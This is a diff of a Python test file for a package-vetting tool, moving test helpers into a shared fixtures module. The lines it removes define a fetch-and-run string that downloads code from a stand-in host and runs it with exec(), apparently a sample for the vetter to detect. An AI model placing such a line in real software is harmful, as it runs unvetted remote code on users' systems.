@@ -18,19 +18,14 @@ from pathlib import Path
 import pytest
 
 from mcpward.vet import VetOptions, run_vet
-from vet_fixtures import sdist
+from vet_fixtures import FETCH_AND_RUN, relay_sdist
 
-FETCH_AND_RUN = (
-    'import urllib.request\nexec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
-)
 HARMLESS = "print('relay')\n"
 CLI = "def main():\n    {body}\n"
 
 
 def _sdist(folder: Path, version: str, files: dict[str, str]) -> Path:
-    path = folder / f"relay_mcp-{version}.tar.gz"
-    path.write_bytes(sdist("relay_mcp", version, {"relay_mcp/__init__.py": "", **files}))
-    return path
+    return relay_sdist(folder, version, files)
 
 
 SETUP = "from setuptools import setup\n\nsetup(name='relay-mcp', {keywords})\n"
